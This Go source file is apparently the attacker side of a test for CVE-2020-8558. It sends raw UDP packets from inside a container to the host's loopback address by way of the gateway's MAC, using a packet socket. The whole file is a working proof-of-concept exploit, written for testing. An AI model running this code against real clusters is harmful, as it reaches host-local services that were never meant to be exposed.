// Command rawudp is the attacker of the route_localnet test
// (CVE-2020-8558): run inside a container, it uses CAP_NET_RAW (which
// containers have by default) to send UDP datagrams addressed to the
// host's loopback, in Ethernet frames addressed to the gateway's MAC, a
// route the container's own routing table would never take.
//
// Usage: rawudp IFACE GATEWAY-MAC DST-IP PORT MESSAGE
package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"os"
	"strconv"

	"golang.org/x/sys/unix"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "rawudp:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	if len(args) != 5 {
		return fmt.Errorf("usage: rawudp IFACE GATEWAY-MAC DST-IP PORT MESSAGE")
	}
	ifi, err := net.InterfaceByName(args[0])
	if err != nil {
		return err
	}
	mac, err := net.ParseMAC(args[1])
	if err != nil {
		return err
	}
	dst := net.ParseIP(args[2]).To4()
	port, err := strconv.Atoi(args[3])
	if err != nil || dst == nil {
		return fmt.Errorf("bad destination %s:%s", args[2], args[3])
	}
	addrs, err := ifi.Addrs()
	if err != nil {
		return err
	}
	var src net.IP
	for _, a := range addrs {
		if ipn, ok := a.(*net.IPNet); ok && ipn.IP.To4() != nil {
			src = ipn.IP.To4()
		}
	}
	if src == nil {
		return fmt.Errorf("no IPv4 address on %s", ifi.Name)
	}
	pkt := udpPacket(src, dst, port, []byte(args[4]))
	// SOCK_DGRAM: the kernel writes the Ethernet header for the MAC we give.
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM, int(htons(unix.ETH_P_IP)))
	if err != nil {
		return fmt.Errorf("packet socket: %w", err)
	}
	defer unix.Close(fd)
	to := &unix.SockaddrLinklayer{Protocol: htons(unix.ETH_P_IP), Ifindex: ifi.Index, Halen: 6}
	copy(to.Addr[:], mac)
	return unix.Sendto(fd, pkt, 0, to)
}

// udpPacket builds an IPv4 header and a UDP datagram (checksum 0: none,
// which IPv4 allows).
func udpPacket(src, dst net.IP, port int, payload []byte) []byte {
	p := make([]byte, 28+len(payload))
	p[0] = 0x45 // IPv4, 5-word header
	binary.BigEndian.PutUint16(p[2:], uint16(len(p)))
	p[8] = 64 // TTL
	p[9] = unix.IPPROTO_UDP
	copy(p[12:16], src)
	copy(p[16:20], dst)
	binary.BigEndian.PutUint16(p[10:], checksum(p[:20]))
	binary.BigEndian.PutUint16(p[20:], 40000)
	binary.BigEndian.PutUint16(p[22:], uint16(port))
	binary.BigEndian.PutUint16(p[24:], uint16(8+len(payload)))
	copy(p[28:], payload)
	return p
}

func checksum(b []byte) uint16 {
	var sum uint32
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }
